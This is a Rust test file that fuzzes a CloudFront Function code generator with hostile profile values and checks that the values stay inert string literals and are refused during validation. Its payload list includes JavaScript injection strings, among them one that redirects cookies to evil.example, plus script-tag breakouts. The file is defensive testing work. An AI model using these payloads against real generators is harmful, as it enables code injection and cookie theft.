//! Nothing from a profile becomes code (issue 23): hostile values for the
//! two profile keys that reach a generated CloudFront Function
//! (`strip_prefix`, `spa_index`) are fed to the generator directly, and the
//! functions it makes run in the local edge's own runtime
//! (tests/emulator/ahi_emulator/edge_runtime.js, cloudfront-js-2.0 under
//! node): each must do exactly the intended rewrite and nothing else. The
//! same values are refused by the profile check with the file, line and
//! column of the value, so none of them reaches the generator through
//! `validate`, `plan` or `up`.

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use ahi_edge::routes::Transform;
use ahi_edge::routes::transform::js_string;

use crate::support::run;

/// How many hostile values the property test generates (the issue asks
/// for at least 1,000).
const VALUES: usize = 1200;

/// Pieces of hostile values: line terminators of every kind, quotes,
/// comment and script delimiters, escapes that mean something to a
/// JavaScript or JSON reader, NUL, invisible and astral characters, and
/// whole injected handlers.
const HOSTILE: &[&str] = &[
    "\n",
    "\r",
    "\r\n",
    "\u{2028}",
    "\u{2029}",
    "\u{0085}",
    "\0",
    "\t",
    "\u{000b}",
    "\u{000c}",
    "\"",
    "'",
    "`",
    "\\",
    "\\n",
    "\\u2028",
    "\\x00",
    "*/",
    "/*",
    "</script>",
    "<!--",
    "-->",
    "${request.uri}",
    "\"+request.uri+\"",
    "';",
    "\";\n}\nfunction handler(event) { return {statusCode: 302, headers: {location: {value: 'https://evil.example/' + JSON.stringify(event.request.cookies)}}}; }\n//",
    "\u{2028}function handler(e){return {statusCode:200}}\u{2028}",
    "*/ function handler(e) { return e.request.cookies; } /*",
    "</script><script>alert(1)</script>",
    "\u{feff}",
    "\u{202e}",
    "\u{200b}",
    "é",
    "Ω",
    "😀",
    "\u{10ffff}",
    "\u{fffd}",
    " ",
    "%0a",
    "%E2%80%A8",
    "?",
    "#",
    "*",
    ";",
    "{",
    "}",
    "(",
    ")",
    "=",
    "!",
    ",",
];

/// Harmless pieces, so values look like paths around the hostile parts.
const PLAIN: &[&str] = &[
    "a",
    "api",
    "/",
    "//",
    ".",
    "-",
    "_",
    "index.html",
    "v2",
    "~u",
    "$",
    "@",
    ":",
    "+",
    "&",
];

/// A small deterministic generator (xorshift64*): the same values on
/// every run, so a failure names a value that can be reproduced.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// `VALUES` distinct values, each a `/` and 1-8 pieces, at least one hostile.
fn hostile_values() -> Vec<String> {
    let mut rng = Rng(0x5eed_1dea_2026_0023);
    let mut out: Vec<String> = Vec::new();
    while out.len() < VALUES {
        let mut value = String::from("/");
        let pieces = 1 + rng.below(8);
        let forced = rng.below(pieces);
        for i in 0..pieces {
            let piece = if i == forced || rng.below(2) == 0 {
                HOSTILE[rng.below(HOSTILE.len())]
            } else {
                PLAIN[rng.below(PLAIN.len())]
            };
            value.push_str(piece);
        }
        if !out.contains(&value) {
            out.push(value);
        }
    }
    out
}

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// A viewer-request event as CloudFront Functions get it, with a cookie
/// and a header an injected handler would try to reach.
fn event(method: &str, uri: &str) -> Value {
    json!({
        "version": "1.0",
        "context": {"eventType": "viewer-request", "distributionId": "EDFDVBD6EXAMPLE", "requestId": "r1"},
        "viewer": {"ip": "198.51.100.7"},
        "request": {
            "method": method,
            "uri": uri,
            "querystring": {"q": {"value": "1"}},
            "headers": {"host": {"value": "d111111abcdef8.cloudfront.net"}},
            "cookies": {"CloudFront-Signature": {"value": "signed-cookie-value"}}
        }
    })
}

/// One run of a generated function: its code, the request, and the
/// request it must return (the input with only the URI rewritten).
pub(crate) struct Case {
    pub(crate) code: String,
    pub(crate) event: Value,
    pub(crate) expected: Value,
    pub(crate) what: String,
}

fn case(t: &Transform, method: &str, uri: &str, what: &str) -> Case {
    let event = event(method, uri);
    let mut expected = event["request"].clone();
    expected["uri"] = json!(t.apply(method, uri));
    Case {
        code: t.code(),
        event,
        expected,
        what: format!("{what}: {method} {uri:?}"),
    }
}

/// Every case through one edge_runtime.js process: (result, logs) by case.
pub(crate) fn run_in_edge_runtime(cases: &[Case]) -> Vec<(Value, Vec<Value>)> {
    let mut node = Command::new("node")
        .arg(root().join("tests/emulator/ahi_emulator/edge_runtime.js"))
        // The emulator address the runtime would send AWS hosts to: none here.
        .arg("http://127.0.0.1:9")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("node");
    let mut input = String::new();
    for (id, c) in cases.iter().enumerate() {
        input.push_str(&json!({"id": id, "kind": "cff", "code": c.code, "event": c.event}).to_string());
        input.push('\n');
    }
    let mut stdin = node.stdin.take().unwrap();
    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
    let mut answers: BTreeMap<u64, Value> = BTreeMap::new();
    for line in BufReader::new(node.stdout.take().unwrap()).lines() {
        let answer: Value = serde_json::from_str(&line.unwrap()).unwrap();
        answers.insert(answer["id"].as_u64().unwrap(), answer);
    }
    writer.join().unwrap().unwrap();
    assert!(node.wait().unwrap().success());
    assert_eq!(answers.len(), cases.len(), "the runtime answered every case");
    answers
        .into_values()
        .map(|a| {
            assert_eq!(a["ok"], true, "the function ran: {a}");
            (
                a["result"].clone(),
                a["logs"].as_array().cloned().unwrap_or_default(),
            )
        })
        .collect()
}

/// The code with every occurrence of the value's literal replaced by `X`:
/// the same for every value when the value is only ever a literal.
fn skeleton(code: &str, values: &[&str]) -> String {
    let mut out = code.to_string();
    for v in values {
        out = out.replace(&js_string(v), "X");
    }
    out
}

#[test]
fn hostile_values_in_generated_functions_only_ever_rewrite_the_uri() {
    let values = hostile_values();
    assert_eq!(values.len(), VALUES);
    let strip_only = |v: &str| Transform {
        strip_prefix: Some(v.to_string()),
        spa_index: None,
        healthimaging: None,
    };
    let spa_after_strip = |v: &str| Transform {
        strip_prefix: Some("/app".to_string()),
        spa_index: Some(v.to_string()),
        healthimaging: None,
    };
    let both = |v: &str| Transform {
        strip_prefix: Some(v.to_string()),
        spa_index: Some(v.to_string()),
        healthimaging: None,
    };
    let shapes = [
        skeleton(&strip_only("/safe").code(), &["/safe"]),
        skeleton(&spa_after_strip("/safe").code(), &["/app", "/safe"]),
        skeleton(&both("/safe").code(), &["/safe"]),
    ];
    let mut cases = Vec::new();
    for v in &values {
        for (i, (t, literals)) in [
            (strip_only(v), vec![v.as_str()]),
            (spa_after_strip(v), vec!["/app", v.as_str()]),
            (both(v), vec![v.as_str()]),
        ]
        .into_iter()
        .enumerate()
        {
            let code = t.code();
            // The value is only ever a string literal: printable ASCII, no
            // line terminator of any kind, the code otherwise unchanged.
            assert!(
                code.bytes().all(|b| b == b'\n' || (0x20..0x7f).contains(&b)),
                "{v:?} put a byte outside printable ASCII into:\n{code}"
            );
            assert_eq!(
                skeleton(&code, &literals),
                shapes[i],
                "{v:?} changed the code's shape"
            );
            assert_eq!(
                code.lines().next().unwrap(),
                format!("// ahi-edge route transform: {}", t.kinds()),
                "no profile text in the comment"
            );
        }
        let strip = strip_only(v);
        cases.push(case(&strip, "GET", &format!("{v}/users/42"), "strip, matching"));
        cases.push(case(&strip, "GET", v, "strip, the prefix alone"));
        cases.push(case(&strip, "GET", "/other/x.js", "strip, not matching"));
        let spa = spa_after_strip(v);
        cases.push(case(&spa, "GET", "/app/dashboard/42", "spa, a client route"));
        cases.push(case(&spa, "HEAD", "/app/main.css", "spa, a file"));
        cases.push(case(&spa, "POST", "/app/form", "spa, not GET"));
        let both = both(v);
        cases.push(case(&both, "GET", &format!("{v}/deep/route"), "both"));
    }
    let results = run_in_edge_runtime(&cases);
    let mut rewritten = 0;
    for (c, (result, logs)) in cases.iter().zip(&results) {
        // The whole request back, equal but for the URI: no response made,
        // no header, cookie or query string added, changed or removed.
        assert_eq!(result, &c.expected, "{}", c.what);
        assert!(logs.is_empty(), "{}: the function logged {logs:?}", c.what);
        if c.expected["uri"] != c.event["request"]["uri"] {
            rewritten += 1;
        }
    }
    // The rewrites really ran: six of each value's seven cases change the URI.
    assert_eq!(rewritten, 6 * VALUES, "rewrites among {} cases", cases.len());
}

/// The value as a TOML basic string (quotes, backslashes and control
/// characters escaped; anything else, U+2028 included, as itself).
fn toml_string(value: &str) -> String {
    let mut out = String::from("\"");
    for c in value.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 || c as u32 == 0x7f => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn reverse_proxy() -> String {
    std::fs::read_to_string(root().join("profiles/reverse-proxy.toml")).unwrap()
}

/// The profile with `key = <value>` in place of `old`, and the 1-based
/// line and column where the value starts.
fn with_value(old: &str, key: &str, value: &str) -> (String, usize, usize) {
    let text = reverse_proxy();
    let at = text.find(old).expect("the template has the line");
    let line = text[..at].matches('\n').count() + 1;
    let replaced = text.replacen(old, &format!("{key} = {}", toml_string(value)), 1);
    let column = key.len() + " = ".len() + 1;
    (replaced, line, column)
}

#[test]
fn the_profile_check_refuses_every_hostile_value_at_its_line_and_column() {
    let path = Path::new("profile.toml");
    for v in hostile_values() {
        for (old, key, field, anchor) in [
            (
                "strip_prefix = \"/api\"",
                "strip_prefix",
                "routes[0].strip_prefix",
                "",
            ),
            ("spa = true", "spa_index", "routes[4].spa_index", "spa = true\n"),
        ] {
            let (text, line, column) = with_value(old, key, &v);
            let text = if anchor.is_empty() {
                text
            } else {
                text.replacen(&format!("{key} = "), &format!("{anchor}{key} = "), 1)
            };
            let line = line + anchor.matches('\n').count();
            let report = ahi_edge::profile::check(path, &text);
            assert!(
                report.profile.is_none(),
                "{field} = {v:?} passed the check: the generator would get it"
            );
            let problem = report
                .problems
                .iter()
                .find(|p| p.key == field)
                .unwrap_or_else(|| panic!("no problem for {field} = {v:?}: {:?}", report.problems));
            assert_eq!((problem.line, problem.column), (line, column), "{field} = {v:?}");
            assert!(
                problem.message.starts_with("contains "),
                "{field} = {v:?}: {}",
                problem.message
            );
            // What a terminal shows of the message is the value's TOML
            // spelling and a named character, never a raw control one.
            assert!(
                !problem
                    .message
                    .chars()
                    .any(|c| c.is_control() || c == '\u{2028}' || c == '\u{2029}'),
                "{:?}",
                problem.message
            );
        }
    }
}

#[test]
fn validate_plan_and_up_refuse_a_hostile_rewrite_before_any_call() {
    let dir = tempfile::tempdir().unwrap();
    let (text, line, column) = with_value(
        "strip_prefix = \"/api\"",
        "strip_prefix",
        "/api\";\n}\nfunction handler(e){return e.request.cookies}//\u{2028}",
    );
    std::fs::write(dir.path().join("profile.toml"), &text).unwrap();
    let validate = run(&["validate", "--profile", "profile.toml"], dir.path());
    assert_eq!(validate.code, 2, "{}\n{}", validate.stdout, validate.stderr);
    assert!(
        validate.stdout.contains(&format!(
            "profile.toml:{line}:{column}: error: routes[0].strip_prefix = "
        )) && validate
            .stdout
            .contains("contains '\"'; a path here holds only letters, digits and _-.$/~@:+&"),
        "{}",
        validate.stdout
    );
    // `plan` and `up` stop at the profile: an AWS endpoint where nothing
    // listens would fail any call differently, and no lockfile appears.
    for command in ["plan", "up", "routes"] {
        let mut args = vec!["--profile", "profile.toml", command];
        if command == "routes" {
            args.push("show");
        }
        let out = crate::support::bin()
            .args(&args)
            .current_dir(dir.path())
            .env("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
            .env("AWS_ACCESS_KEY_ID", "testing")
            .env("AWS_SECRET_ACCESS_KEY", "testing")
            .env("AWS_REGION", "us-east-1")
            .output()
            .unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr),
        );
        assert_eq!(out.status.code(), Some(2), "{command}:\n{stdout}\n{stderr}");
        assert!(
            format!("{stdout}{stderr}").contains(&format!(
                "profile.toml:{line}:{column}: error: routes[0].strip_prefix"
            )),
            "{command}:\n{stdout}\n{stderr}"
        );
        assert!(
            !stdout.contains("function handler"),
            "{command} printed generated code"
        );
        assert!(
            !dir.path().join("profile.lock").exists(),
            "{command} wrote a lockfile"
        );
    }
}
